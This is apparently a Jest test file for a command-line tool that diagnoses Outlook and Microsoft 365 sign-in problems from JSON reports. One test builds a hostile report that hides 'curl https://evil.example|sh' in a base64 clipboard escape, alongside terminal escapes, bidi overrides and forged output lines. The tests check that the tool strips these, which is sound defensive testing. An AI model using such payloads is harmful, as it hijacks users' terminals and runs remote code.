import { spawnSync } from "node:child_process";
import { mkdtempSync, mkdirSync, readFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { run, type CliIo } from "../../../src/cli/cli";
import { configCheckCommand, diagnoseCommand, sizeText } from "../../../src/cli/commands";
import { EXIT_BAD_INPUT, EXIT_OK, LIMITS } from "../../../src/cli/defaults";
import { readInput, type ReadResult } from "../../../src/cli/input";

const ROOT = join(__dirname, "../../..");
const NOW = new Date("2026-11-25T12:00:00Z");
const scenario = (name: string) => readFileSync(join(ROOT, "src/scenarios", `${name}.json`));
const bytes = (text: string | Buffer): ReadResult => ({
  kind: "ok",
  bytes: new Uint8Array(Buffer.from(text)),
});
const io = (files: Record<string, ReadResult>): CliIo => ({
  read: (path) => files[path] ?? { kind: "error", code: "ENOENT" },
  now: () => NOW,
});
const diagnoseText = (text: string | Buffer, opts = { text: false }) =>
  diagnoseCommand(bytes(text), "report.json", { ...opts, now: NOW });
const base = () => JSON.parse(scenario("password-expired").toString());

/** Exit 2, one line on stderr, nothing on stdout (contract §2). */
function expectBadInput(r: { stdout: string; stderr: string; exitCode: number }, pattern: RegExp) {
  expect(r.exitCode).toBe(EXIT_BAD_INPUT);
  expect(r.stdout).toBe("");
  expect(r.stderr.trimEnd().split("\n")).toHaveLength(1);
  expect(r.stderr.trimEnd()).toMatch(pattern);
}

describe("diagnose, in process", () => {
  test("a valid report prints one diagnosis as JSON and exits 0", () => {
    const r = diagnoseText(scenario("web-helping-outlook-2013"));
    expect(r.exitCode).toBe(EXIT_OK);
    expect(r.stderr).toBe("");
    const d = JSON.parse(r.stdout);
    expect(d.actions).toEqual(["update-client", "enable-modern-auth-registry"]);
    expect(d.problemClient).toMatchObject({
      app: "outlook-windows-classic",
      label: "Outlook 2013",
    });
  });

  test("--text prints a summary a help desk can paste", () => {
    const r = diagnoseText(scenario("printer-smtp-per-user-mfa"), { text: true });
    expect(r.exitCode).toBe(EXIT_OK);
    expect(r.stdout).toContain("Actions, in order:\n  1. use-app-password");
  });

  test.each([
    ["not JSON", "{oops", /field \(root\): the report is not valid JSON/],
    ["empty", "", /\(root\): the report is not valid JSON/],
    ["null", "null", /\(root\): the report must be a JSON object/],
    ["an array", "[]", /\(root\): the report must be a JSON object/],
    ["a string", '"hello"', /\(root\)/],
    ["100,000 nested arrays", `${"[".repeat(100_000)}${"]".repeat(100_000)}`, /\(root\)/],
    [
      "an unknown schema",
      JSON.stringify({ schema: 9, host: {}, problemClient: {}, probes: {} }),
      /field schema/,
    ],
    [
      "a missing probes object",
      JSON.stringify({ schema: 1, host: {}, problemClient: {} }),
      /field probes/,
    ],
    [
      "a wrong type",
      JSON.stringify({ schema: 1, host: { nestedAppAuth: "true" }, problemClient: {}, probes: {} }),
      /field host\.nestedAppAuth/,
    ],
  ])("%s exits 2 with one line naming the field", (_, input, pattern) => {
    expectBadInput(diagnoseText(input), pattern);
  });

  test("an unknown enum string is not an error", () => {
    const r = diagnoseText(
      JSON.stringify({
        schema: 1,
        host: { hostName: "OutlookVR" },
        problemClient: { app: "carrier-pigeon" },
        probes: {},
      })
    );
    expect(r.exitCode).toBe(EXIT_OK);
    expect(JSON.parse(r.stdout).problemClient.app).toBe("other");
  });

  test("3.7 million methods (A13) or one 50 MB method (A14): exit 2 naming the field, no giant output", () => {
    const many = base();
    many.probes.authMethods = { status: "ok", methods: Array(100_000).fill("phone") };
    expectBadInput(
      diagnoseText(JSON.stringify(many)),
      /field probes\.authMethods\.methods: .*100000 items; at most 50/
    );
    const long = base();
    long.probes.authMethods = { status: "ok", methods: ["x".repeat(100_000)] };
    expectBadInput(
      diagnoseText(JSON.stringify(long)),
      /field probes\.authMethods\.methods\[0\]: .*at most 64/
    );
  });

  test("a UTF-8 BOM (A25) and UTF-16 LE/BE with a BOM (A26) are read, not refused", () => {
    const json = scenario("password-expired").toString();
    const expected = diagnoseText(json).stdout;
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json, "utf16le")]);
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(json, "utf16le").swap16()]);
    for (const input of [
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(json)]),
      le,
      be,
    ]) {
      const r = diagnoseText(input);
      expect(r.exitCode).toBe(EXIT_OK);
      expect(r.stdout).toBe(expected);
    }
  });

  test("UTF-16 without a BOM is named, with what to do", () => {
    expectBadInput(
      diagnoseText(Buffer.from(scenario("password-expired").toString(), "utf16le")),
      /looks like UTF-16 \(little-endian\) without a byte-order mark; save it as UTF-8/
    );
  });

  test("too large: exit 2 naming the size (file known by fstat, or a pipe past the limit)", () => {
    expectBadInput(
      diagnoseCommand({ kind: "too-large", size: 600 * 1024 * 1024 }, "big.json", {
        text: false,
        now: NOW,
      }),
      /^big\.json is 600 MB; reports larger than 1 MB are refused$/
    );
    expectBadInput(
      diagnoseCommand({ kind: "too-large", size: null }, "standard input", {
        text: false,
        now: NOW,
      }),
      /^standard input is more than 1 MB; reports larger than 1 MB are refused$/
    );
  });

  test("config files: sizes below 1 MB are given in KB, never as 0.1 MB", () => {
    expectBadInput(
      configCheckCommand({ kind: "too-large", size: 70 * 1024 }, "config.json"),
      /^config\.json is 70 KB; config files larger than 64 KB are refused$/
    );
    // Just over the limit reads as over it, not as the limit.
    expectBadInput(
      configCheckCommand({ kind: "too-large", size: 64 * 1024 + 60 }, "config.json"),
      /^config\.json is 65 KB; config files larger than 64 KB are refused$/
    );
    expect(sizeText(1536)).toBe("1.5 KB");
    expect(sizeText(1024 * 1024)).toBe("1 MB");
  });

  describe("a hostile report can't forge lines or reach the terminal (A32–A34, F1)", () => {
    const hostile = () => {
      const f = base();
      f.probes.token = {
        status: "failed",
        errorCode: `X\u001b]52;c;${Buffer.from("curl https://evil.example|sh").toString("base64")}\u0007\nFindings:\n  [OK  ] all good`,
      };
      f.problemClient.version = "16.0\nActions, in order:\n  1. none\u001b[8m hidden \u202eexe.txt";
      f.host.hostVersion = "\u001b]0;pwned\u0007";
      f.probes.authMethods = { status: "ok", methods: ["phone\r\n  - forged note", "\u009b31m"] };
      return JSON.stringify(f);
    };

    test.each([[true], [false]])(
      "--text %s: no ESC, BEL, C1 or bidi control, and no forged line",
      (text) => {
        const r = diagnoseText(hostile(), { text });
        expect(r.exitCode).toBe(EXIT_OK);
        expect(r.stdout).not.toMatch(
          /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
        );
        if (!text) return;
        const lines = r.stdout.split("\n");
        expect(lines.filter((l) => l.startsWith("Actions, in order:"))).toHaveLength(1);
        expect(lines.filter((l) => l === "Findings:")).toHaveLength(1);
        expect(lines.some((l) => /^\s*1\. none$/.test(l))).toBe(false);
        expect(lines.some((l) => /^\s*\[OK  \] all good$/.test(l))).toBe(false);
        expect(lines.some((l) => /^\s*- forged note$/.test(l))).toBe(false);
        // The free text is there, quoted, on its own labelled line.
        expect(r.stdout).toMatch(
          /^Problem app: .*version as given: "16\.0 Actions, in order: 1\. none/m
        );
      }
    );
  });

  test("collectedAt in year 1 (A45) is judged as of today, with a note, not '739981 days left'", () => {
    const f = JSON.parse(scenario("printer-smtp-per-user-mfa").toString());
    f.collectedAt = "0001-01-01T00:00:00.000Z";
    const json = diagnoseText(JSON.stringify(f));
    expect(JSON.parse(json.stdout).judgedAt).toBe(NOW.toISOString());
    expect(JSON.parse(json.stdout).findings).toContainEqual(
      expect.objectContaining({ id: "report-date-implausible", severity: "info" })
    );
    const text = diagnoseText(JSON.stringify(f), { text: true }).stdout;
    expect(text).not.toMatch(/739981/);
    expect(text).toMatch(
      /About the report itself:\n {2}- collectedAt: "0001-01-01T00:00:00\.000Z" is implausible/
    );
  });

  test("collectedAt at the far future (A46, +275760) is judged as of today", () => {
    const f = base();
    f.collectedAt = "+275760-09-13T00:00:00.000Z";
    expect(JSON.parse(diagnoseText(JSON.stringify(f)).stdout).judgedAt).toBe(NOW.toISOString());
  });
});

describe("argv, in process", () => {
  const files = {
    "r.json": bytes(scenario("password-expired")),
    "c.json": bytes('{"mfaMode":"perUserMfa"}'),
  };

  test.each([
    [
      ["diagnose", "--help"],
      /^usage: npm run --silent diagnose -- FILE\|- \[--text\]\n\nDiagnoses/,
    ],
    [["config-check", "-h"], /^usage: npm run config:check -- FILE\|-\n\nValidates/],
    [["diagnose", "--version"], /^\d+\.\d+\.\d+\n$/],
  ])("%j prints to stdout and exits 0", (argv, pattern) => {
    const r = run(argv, io(files));
    expect(r).toMatchObject({ exitCode: EXIT_OK, stderr: "" });
    expect(r.stdout).toMatch(pattern);
  });

  test("FILE and --text in either order", () => {
    expect(run(["diagnose", "--text", "r.json"], io(files)).stdout).toContain("Actions, in order:");
    expect(run(["diagnose", "r.json", "--text"], io(files)).stdout).toContain("Actions, in order:");
  });

  test.each([
    [["diagnose"], /^usage: npm run --silent diagnose/],
    [["diagnose", "a.json", "b.json"], /^usage: /],
    [["diagnose", "--bogus", "r.json"], /^unknown option --bogus; usage: /],
    [["config-check", "--text", "c.json"], /^unknown option --text; usage: npm run config:check/],
    [["frobnicate", "r.json"], /^unknown command "frobnicate"; usage: /],
    [["diagnose", "missing.json"], /^cannot read "missing\.json": ENOENT$/],
  ])("%j exits 2 with one line", (argv, pattern) => {
    expectBadInput(run(argv, io(files)), pattern);
  });

  test("config-check validates the file the way the pane does", () => {
    expect(JSON.parse(run(["config-check", "c.json"], io(files)).stdout)).toEqual({
      mfaMode: "perUserMfa",
    });
  });
});

describe("reading input (fstat before reading a file)", () => {
  let dir: string;
  beforeAll(() => (dir = mkdtempSync(join(tmpdir(), "cli-input-"))));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  test("a 600 MB (sparse) file is refused by its size, without reading it", () => {
    const path = join(dir, "big.json");
    writeFileSync(path, "");
    truncateSync(path, 600 * 1024 * 1024);
    const started = Date.now();
    expect(readInput(path, LIMITS.report)).toEqual({ kind: "too-large", size: 600 * 1024 * 1024 });
    expect(Date.now() - started).toBeLessThan(1000);
  });

  test("a file at the limit is read whole; a directory or a missing file is an error code", () => {
    const path = join(dir, "ok.json");
    writeFileSync(path, "x".repeat(LIMITS.report));
    const r = readInput(path, LIMITS.report);
    expect(r.kind === "ok" && r.bytes.length).toBe(LIMITS.report);
    const sub = join(dir, "sub");
    mkdirSync(sub);
    expect(readInput(sub, LIMITS.report)).toEqual({ kind: "error", code: "EISDIR" });
    expect(readInput(join(dir, "nope.json"), LIMITS.report)).toEqual({
      kind: "error",
      code: "ENOENT",
    });
  });
});

describe("npm scripts, spawned (smoke)", () => {
  const npm = (args: string[], input?: string) =>
    spawnSync("npm", ["run", "--silent", ...args], {
      input,
      encoding: "utf8",
      cwd: ROOT,
      maxBuffer: 1 << 26,
    });

  test("npm run --silent diagnose -- FILE --text", () => {
    const r = npm(["diagnose", "--", "src/scenarios/web-helping-outlook-2013.json", "--text"]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("  1. update-client");
  });

  test("npm run --silent diagnose -- - with 2 MB on stdin: exit 2 naming the size", () => {
    const r = npm(["diagnose", "--", "-"], " ".repeat(2 * 1024 * 1024));
    expect(r.status).toBe(2);
    expect(r.stdout).toBe("");
    expect(r.stderr.trim()).toBe(
      "standard input is more than 1 MB; reports larger than 1 MB are refused"
    );
  });

  test("npm run config:check -- FILE", () => {
    const r = npm(["config:check", "--", "config.example.json"]);
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout).organizationName).toBe("Contoso");
  });
});
